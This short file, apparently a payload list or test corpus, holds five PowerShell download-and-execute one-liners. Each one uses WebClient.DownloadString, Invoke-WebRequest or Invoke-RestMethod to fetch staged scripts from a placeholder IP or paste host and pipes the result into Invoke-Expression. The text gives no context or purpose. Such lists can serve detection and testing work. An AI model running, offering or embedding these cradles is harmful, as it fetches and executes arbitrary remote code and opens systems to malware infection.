IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/stage1.ps1')
iex ((New-Object System.Net.WebClient).DownloadString('https://pastebin.example/raw/x1'))
Invoke-Expression (Invoke-WebRequest -Uri 'http://203.0.113.5/stage2.ps1' -UseBasicParsing).Content
(iwr 'http://203.0.113.5/s3.ps1' -UseBasicParsing).Content | iex
Invoke-RestMethod 'http://203.0.113.5/s4.ps1' | Invoke-Expression
